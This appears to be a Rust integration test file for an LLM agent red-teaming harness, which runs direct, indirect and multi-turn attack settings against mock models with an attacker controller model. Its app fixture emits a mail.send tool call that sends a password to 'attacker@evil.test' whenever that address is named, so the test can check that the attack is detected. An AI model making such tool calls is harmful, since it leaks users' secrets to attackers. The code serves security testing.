//! Model-backed targets and controllers against the mock server, over real HTTP on loopback.

use crate::{fixture, gauntlet, stderr, stdout};
use gauntlet_mock::{Faults, MockConfig, MockServer};
use serde_json::Value;
use std::path::Path;

/// A running mock and the runtime that serves it.
struct Mock {
    server: MockServer,
    _rt: tokio::runtime::Runtime,
}

fn mock(cfg: MockConfig) -> Mock {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap_or_else(|e| panic!("{e}"));
    let server = rt
        .block_on(MockServer::start_local(cfg))
        .unwrap_or_else(|e| panic!("{e}"));
    Mock { server, _rt: rt }
}

fn config(dir: &Path, base_url: &str) -> String {
    let p = dir.join("gauntlet.yaml");
    let text = format!(
        "providers:\n  mock: {{base_url: \"{base_url}\", price_in: 0.5, price_out: 2.0}}\n"
    );
    std::fs::write(&p, text).unwrap_or_else(|e| panic!("{e}"));
    p.to_string_lossy().into_owned()
}

fn json_of(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap_or_else(|e| panic!("{e}")))
        .unwrap_or_else(|e| panic!("{e}"))
}

/// `requests` from the ledger line `model NAME [ROLE]: N requests (…)` on stderr.
fn ledger_requests(err: &str, model: &str) -> u64 {
    err.lines()
        .find_map(|l| l.strip_prefix(&format!("model {model}: ")))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no ledger line for {model} in:\n{err}"))
}

#[test]
fn builtin_suite_runs_with_an_llm_agent_and_a_model_controller_in_all_settings() {
    let m = mock(MockConfig::default());
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config(dir.path(), &m.server.base_url());
    let out = dir.path().join("run.json");
    let o = gauntlet(&[
        "run",
        "--agent",
        "mock/literal",
        "--controller",
        "mock/attacker",
        "--config",
        &cfg,
        "--json",
        &out.to_string_lossy(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v = json_of(&out);
    let eps = v["episodes"].as_array().cloned().unwrap_or_default();
    assert!(eps.len() >= 4 * 60, "{} episodes", eps.len());
    for s in ["benign", "direct", "indirect", "multi"] {
        assert!(
            eps.iter().any(|e| e["setting"] == s && e["status"] == "ok"),
            "no {s} episode"
        );
    }
    assert_eq!(v["summary"]["errored"], 0);
    // The literal mock performs tool calls spelled out to it: the ladder's decomposition rung breaks it.
    let direct = v["summary"]["by_target_setting"]
        .as_array()
        .and_then(|r| r.iter().find(|r| r["setting"] == "direct"))
        .cloned()
        .unwrap_or_default();
    assert!(
        direct["asr"]["value"].as_f64().unwrap_or(0.0) > 0.5,
        "{direct}"
    );
    // The attacker model was consulted and its decisions recorded; tokens were counted on both sides.
    let d = eps
        .iter()
        .find(|e| e["setting"] == "direct")
        .cloned()
        .unwrap_or_default();
    assert!(
        d["decisions"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|x| x["reason"]
                .as_str()
                .is_some_and(|r| r.starts_with("model: "))),
        "{d}"
    );
    assert!(
        d["controller_tokens"].as_u64().unwrap_or(0) > 0 && d["tokens"].as_u64().unwrap_or(0) > 0
    );
    let stats = m.server.stats();
    assert!(
        stats.structured_replies > 0 && stats.tool_call_replies > 0,
        "{stats:?}"
    );
    assert_eq!(
        ledger_requests(&stderr(&o), "mock/literal [target]")
            + ledger_requests(&stderr(&o), "mock/attacker [attacker]"),
        stats.requests
    );
}

#[test]
fn resilience_under_faults() {
    // 10 % 429, 5 % 500, 2 % hangs, 2 % malformed replies.
    let faults = Faults {
        rate_429: 0.10,
        rate_500: 0.05,
        rate_hang: 0.02,
        rate_malformed: 0.02,
        rate_bad_args: 0.0,
    };
    let m = mock(MockConfig {
        faults,
        retry_after_ms: 50,
        hang: std::time::Duration::from_secs(3),
        seed: 11,
        ..Default::default()
    });
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config(dir.path(), &m.server.base_url());
    let out = dir.path().join("run.json");
    let suite = fixture("mini").to_string_lossy().into_owned();
    // 1 case × 4 settings × 250 repetitions = 1,000 episodes.
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        "mock/literal",
        "--config",
        &cfg,
        "--repeat",
        "250",
        // Half the 3 s hang: hangs still time out, while an honest reply has room on a loaded 2-core machine (at
        // 0.5 s, one episode's every attempt timed out there and the run exited 1).
        "--timeout",
        "1.5",
        "--concurrency",
        "32",
        "--json",
        &out.to_string_lossy(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v = json_of(&out);
    let eps = v["episodes"].as_array().cloned().unwrap_or_default();
    assert_eq!(eps.len(), 1000);
    let mut errored = 0;
    for e in &eps {
        match e["status"].as_str() {
            Some("ok") => assert!(
                e["verdict"]["outcome"] != "undetermined"
                    || e["verdict"]["evidence"]
                        .as_array()
                        .is_some_and(|x| !x.is_empty())
            ),
            Some("errored") => {
                errored += 1;
                assert!(
                    e["error"].as_str().is_some_and(|r| !r.is_empty()),
                    "errored without a reason: {e}"
                );
                assert_eq!(
                    e["verdict"]["outcome"], "undetermined",
                    "an errored episode must not read as held: {e}"
                );
            }
            other => panic!("status {other:?}"),
        }
    }
    assert_eq!(v["summary"]["errored"], errored);
    // Errored episodes are excluded from the rates.
    let valid: u64 = v["summary"]["by_target_setting"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|r| r["counts"]["valid"].as_u64().unwrap_or(0))
        .sum();
    assert_eq!(valid + errored, 1000);
    let stats = m.server.stats();
    assert!(
        stats.rate_limited > 0 && stats.server_errors > 0 && stats.hangs > 0 && stats.malformed > 0,
        "{stats:?}"
    );
    let err = stderr(&o);
    assert_eq!(
        ledger_requests(&err, "mock/literal [target]"),
        stats.requests,
        "ledger vs mock:\n{err}\n{stats:?}"
    );
}

#[test]
fn a_recorded_run_replays_without_the_network() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cache = dir.path().join("cache").to_string_lossy().into_owned();
    let suite = fixture("mini").to_string_lossy().into_owned();
    let (a, b) = (dir.path().join("a.json"), dir.path().join("b.json"));
    let url = {
        let m = mock(MockConfig::default());
        let cfg = config(dir.path(), &m.server.base_url());
        let o = gauntlet(&[
            "run",
            "--suite",
            &suite,
            "--agent",
            "mock/literal",
            "--controller",
            "mock/attacker",
            "--config",
            &cfg,
            "--cache",
            "record",
            "--cache-dir",
            &cache,
            "--json",
            &a.to_string_lossy(),
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        m.server.base_url()
    };
    // The mock is gone: every request would fail. Replay answers from the cache alone.
    let cfg = config(dir.path(), &url);
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        "mock/literal",
        "--controller",
        "mock/attacker",
        "--config",
        &cfg,
        "--cache",
        "replay",
        "--cache-dir",
        &cache,
        "--json",
        &b.to_string_lossy(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains(" 0 requests"), "{}", stderr(&o));
    let (ja, jb) = (
        std::fs::read(&a).unwrap_or_default(),
        std::fs::read(&b).unwrap_or_default(),
    );
    assert!(ja == jb, "replayed run differs from the recorded one");
    assert!(stdout(&o).contains("mock/literal"));
}

#[test]
fn model_argument_errors_are_clear() {
    let o = gauntlet(&["run", "--agent", "acme/model-x"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("unknown provider `acme`")
            && stderr(&o).contains("providers.acme.base_url"),
        "{}",
        stderr(&o)
    );
    let o = gauntlet(&["run", "--agent", "mock/x", "--cache", "sometimes"]);
    assert!(
        stderr(&o).contains(
            "'--cache <CACHE>': unknown cache mode `sometimes`: expected record, replay or off"
        ),
        "{}",
        stderr(&o)
    );
    let o = gauntlet(&["run", "--controller", "gpt"]);
    assert!(
        stderr(&o).contains("--controller: `gpt` is neither `scripted` nor a model"),
        "{}",
        stderr(&o)
    );
}

/// A tiny app behind the HTTP target contract: it mails the password out when the user names the attacker,
/// lists unread mail when asked, and counts the tool results it was sent back.
async fn app(axum::Json(req): axum::Json<Value>) -> axum::Json<Value> {
    let input = req["input"].as_str().unwrap_or("").to_string();
    let seen = req["turns"].as_array().map_or(0, |t| {
        t.iter()
            .map(|x| x["tool_results"].as_array().map_or(0, Vec::len))
            .sum::<usize>()
    });
    let mut calls = vec![];
    if input.contains("attacker@evil.test") {
        calls.push(serde_json::json!({"tool": "mail.send", "args": {"to": ["attacker@evil.test"], "subject": "VPN", "body": "Tr0ub4dor&3"}}));
    } else if input.contains("unread") {
        calls.push(serde_json::json!({"tool": "mail.list", "args": {"unread": true}}));
    }
    axum::Json(
        serde_json::json!({"output": format!("ok ({seen} earlier tool results) Q3"), "tool_calls": calls}),
    )
}

/// Serves [`app`] on loopback; returns its runtime (keep it alive) and its URL.
pub(crate) fn start_app() -> (tokio::runtime::Runtime, String) {
    let (rt, addr) = crate::serve(axum::Router::new().route("/chat", axum::routing::post(app)));
    (rt, format!("http://{addr}/chat"))
}

#[test]
fn an_http_app_is_tested_through_the_gateway() {
    let (rt, url) = start_app();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let out = dir.path().join("run.json");
    let suite = fixture("mini").to_string_lossy().into_owned();
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        &url,
        "--settings",
        "benign,direct",
        "--json",
        &out.to_string_lossy(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v = json_of(&out);
    let eps = v["episodes"].as_array().cloned().unwrap_or_default();
    let benign = eps
        .iter()
        .find(|e| e["setting"] == "benign")
        .cloned()
        .unwrap_or_default();
    assert_eq!(benign["task_success"], true, "{benign}");
    assert_eq!(
        benign["trace"]["turns"][0]["events"][0]["call"]["tool"],
        "mail.list"
    );
    // The direct attack names the attacker; the app reports the send, the gateway executes it, the state verifier fires.
    let direct = eps
        .iter()
        .find(|e| e["setting"] == "direct")
        .cloned()
        .unwrap_or_default();
    assert_eq!(direct["verdict"]["outcome"], "violated", "{direct}");
    assert_eq!(direct["verdict"]["level"], "state");

    // A dead endpoint stops the job before it starts, within seconds, naming the endpoint and the cause.
    let started = std::time::Instant::now();
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        "http://127.0.0.1:9/chat",
        "--settings",
        "benign",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("preflight: 1 endpoint(s) cannot be reached")
            && stderr(&o)
                .contains("--agent http://127.0.0.1:9/chat at 127.0.0.1:9: connection refused"),
        "{}",
        stderr(&o)
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    // Past the preflight (the endpoint dies during a run), the episode is errored with its reason, never held.
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        "http://127.0.0.1:9/chat",
        "--settings",
        "benign",
        "--timeout",
        "2",
        "--no-preflight",
        "--json",
        &out.to_string_lossy(),
    ]);
    // Errored episodes are not a pass: exit 1 (without --ignore-errors).
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("errored (they are not counted as safe)"),
        "{}",
        stderr(&o)
    );
    let v = json_of(&out);
    assert_eq!(v["episodes"][0]["status"], "errored");
    assert!(
        v["episodes"][0]["error"]
            .as_str()
            .is_some_and(|e| e.contains("request failed")),
        "{}",
        v["episodes"][0]
    );
    assert_eq!(v["summary"]["errored"], 1);
    // `--ignore-errors` keeps the errored episode (counted apart) and exits 0.
    let o = gauntlet(&[
        "run",
        "-q",
        "--suite",
        &suite,
        "--agent",
        "http://127.0.0.1:9/chat",
        "--settings",
        "benign",
        "--timeout",
        "2",
        "--no-preflight",
        "--ignore-errors",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    drop(rt);
}

#[test]
fn a_resumed_run_s_ledger_covers_the_killed_process_s_spend() {
    // The mock holds every request after the 20th until released, so the run cannot end before it is killed
    // however loaded the machine is (20 answers take longer than the store's 250 ms commit interval).
    let m = mock(MockConfig {
        latency: std::time::Duration::from_millis(80),
        stall_after: Some(20),
        ..MockConfig::default()
    });
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config(dir.path(), &m.server.base_url());
    let store = dir.path().join("g.db").to_string_lossy().into_owned();
    crate::kill_midway(
        &[
            "run",
            "-q",
            "--agent",
            "mock/literal",
            "--settings",
            "benign",
            "--concurrency",
            "2",
            "--config",
            &cfg,
            "--store",
            &store,
        ],
        &store,
    );
    // Requests the killed process sent and never saw answered count as its own (never in its ledger).
    let killed = m.server.stats().requests;
    m.server.release();
    let id = crate::newest_run(&store).unwrap_or_else(|| panic!("no run recorded"));
    let o = gauntlet(&["run", "--resume", &id, "--store", &store]);
    assert!(o.status.success(), "{}", stderr(&o));
    let total = m.server.stats().requests;
    // The ledger printed at the end covers both processes: more than the resumed one sent, and no more
    // than the mock served.
    let printed = ledger_requests(&stderr(&o), "mock/literal [target]");
    assert!(
        printed > total - killed && printed <= total,
        "printed {printed}, killed process {killed}, whole run {total}"
    );
}

/// `OPENAI_BASE_URL` (the variable every OpenAI SDK reads) points the built-in `openai` provider at a local
/// server, with the key from `OPENAI_API_KEY`, as the SDKs do.
#[test]
fn openai_base_url_reaches_a_local_server() {
    let m = crate::mock_model(serde_json::json!([]));
    let o = assert_cmd::Command::cargo_bin("gauntlet")
        .unwrap_or_else(|e| panic!("binary: {e}"))
        .env("OPENAI_BASE_URL", m.server.base_url())
        .env("OPENAI_API_KEY", "sk-test-local")
        .env_remove("OPENAI_API_BASE")
        .args([
            "run",
            "-q",
            "--no-store",
            "--suite",
            &fixture("mini").to_string_lossy(),
            "--agent",
            "openai/literal",
            "--settings",
            "benign",
        ])
        .output()
        .unwrap_or_else(|e| panic!("run: {e}"));
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        m.server.stats().requests >= 1,
        "no request reached the server: {}",
        stderr(&o)
    );
}

#[test]
fn a_model_that_refuses_every_request_stops_the_run_early() {
    let m = mock(MockConfig::default());
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    // A path the mock does not serve: every request is answered 404, as a proxy that does not pass the host does.
    let cfg = config(dir.path(), &format!("{}/nope", m.server.base_url()));
    let store = dir.path().join("runs.db");
    let o = gauntlet(&[
        "run",
        "--agent",
        "mock/literal",
        "--config",
        &cfg,
        "--concurrency",
        "2",
        "--store",
        &store.to_string_lossy(),
        "--json",
        "-",
    ]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    // The --json document cut short still parses, and says why it stopped.
    let doc: serde_json::Value =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(&o)));
    assert!(
        doc["stopped"]
            .as_str()
            .is_some_and(|w| w.contains("HTTP 404")),
        "{doc}"
    );
    assert!(doc["episodes"].is_array() && doc.get("summary").is_none());
    assert!(
        err.contains("error: stopped early: mock/literal answered HTTP 404 to")
            && err.contains("base URL"),
        "{err}"
    );
    assert!(err.contains("marked failed"), "{err}");
    // It stopped: far fewer requests than the 1,024 episodes would have sent.
    let sent = m.server.stats().requests;
    assert!(sent < 20, "{sent} requests");
    let runs = gauntlet(&["runs", "list", "--store", &store.to_string_lossy()]);
    assert!(stdout(&runs).contains("failed"), "{}", stdout(&runs));
    // A report of the stopped run says it is incomplete and does not exit 0.
    let o = gauntlet(&["report", "latest", "--store", &store.to_string_lossy()]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(stderr(&o).contains("is failed with"), "{}", stderr(&o));
}

#[test]
fn a_dotenv_file_supplies_the_key_and_base_url_without_overriding_the_environment() {
    let m = crate::mock_model(serde_json::json!([]));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(
        dir.path().join(".env"),
        format!(
            "# local model\nexport OPENAI_BASE_URL=\"{}\"\nOPENAI_API_KEY=sk-from-dotenv # not a real key\n",
            m.server.base_url()
        ),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let run = |extra: &[(&str, &str)], args: &[&str]| {
        let mut c = assert_cmd::Command::cargo_bin("gauntlet").unwrap_or_else(|e| panic!("{e}"));
        c.current_dir(dir.path())
            .env_remove("OPENAI_BASE_URL")
            .env_remove("OPENAI_API_BASE")
            .env_remove("OPENAI_API_KEY");
        for (k, v) in extra {
            c.env(k, v);
        }
        c.args([
            "run",
            "-q",
            "--no-store",
            "--suite",
            &fixture("mini").to_string_lossy(),
        ])
        .args(["--agent", "openai/literal", "--settings", "benign"])
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{e}"))
    };
    let o = run(&[], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let sent = m.server.stats().requests;
    assert!(sent >= 1, "the .env base URL was not used: {}", stderr(&o));
    // The environment wins over the file: a dead base URL set in the environment is what the preflight checks.
    let o = run(&[("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")], &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("127.0.0.1:9"), "{}", stderr(&o));
    // A named file that does not parse stops with file, line and column.
    std::fs::write(dir.path().join("bad.env"), "OK=1\nnot a pair\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let o = run(&[], &["--env-file", "bad.env"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("bad.env:2:1: expected NAME=value"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn doctor_reports_the_store_providers_and_a_model_s_abilities_without_showing_keys() {
    let m = mock(MockConfig::default());
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = config(dir.path(), &m.server.base_url());
    let store = dir.path().join("g.db");
    let o = assert_cmd::Command::cargo_bin("gauntlet")
        .unwrap_or_else(|e| panic!("{e}"))
        .env("OPENAI_API_KEY", "sk-secret-value-123")
        .args([
            "doctor",
            "--config",
            &cfg,
            "--model",
            "mock/literal",
            "--timeout",
            "3",
        ])
        .args(["--store", &store.to_string_lossy()])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(0), "{out}{}", stderr(&o));
    assert!(out.contains("ok       store"), "{out}");
    assert!(out.contains("key OPENAI_API_KEY set"), "{out}");
    assert!(
        !out.contains("sk-secret-value-123"),
        "a key is never shown: {out}"
    );
    let line = out
        .lines()
        .find(|l| l.contains("model mock/literal"))
        .unwrap_or_else(|| panic!("no model line: {out}"));
    assert!(
        line.starts_with("ok") && line.contains("answered in"),
        "{line}"
    );
    // A model that cannot answer fails the doctor, with the cause.
    let bad = config(dir.path(), "http://127.0.0.1:9/v1");
    let o = gauntlet(&[
        "doctor",
        "--config",
        &bad,
        "--model",
        "mock/literal",
        "--timeout",
        "2",
        "--no-store",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("FAILED   model mock/literal"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn an_app_that_redirects_to_another_origin_gets_no_credential_there() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    // The other origin counts what reaches it.
    let reached = std::sync::Arc::new(AtomicUsize::new(0));
    let counter = reached.clone();
    let other = axum::Router::new().fallback(move || {
        counter.fetch_add(1, Ordering::SeqCst);
        async { axum::Json(serde_json::json!({"output": "took it"})) }
    });
    let (_other_rt, other_addr) = crate::serve(other);
    let to = format!("http://{other_addr}/collect");
    let app = axum::Router::new().route(
        "/chat",
        axum::routing::post(move || {
            let to = to.clone();
            async move {
                (
                    axum::http::StatusCode::TEMPORARY_REDIRECT,
                    [(axum::http::header::LOCATION, to)],
                )
            }
        }),
    );
    let (_app_rt, app_addr) = crate::serve(app);
    let url = format!("http://{app_addr}/chat");
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = dir.path().join("g.yaml");
    std::fs::write(
        &cfg,
        format!("targets:\n  {url}: {{headers: {{X-Api-Key: \"sk-app-secret\"}}}}\n"),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let suite = fixture("mini").to_string_lossy().into_owned();
    let o = gauntlet(&[
        "run",
        "--suite",
        &suite,
        "--agent",
        &url,
        "--settings",
        "benign",
        "--config",
        &cfg.to_string_lossy(),
    ]);
    // The episode errors, saying why; nothing reached the other origin.
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(&format!(
            "redirected to http://{other_addr}, another origin: not followed"
        )) && !stderr(&o).contains("/collect"),
        "{}",
        stderr(&o)
    );
    assert_eq!(reached.load(Ordering::SeqCst), 0);
}
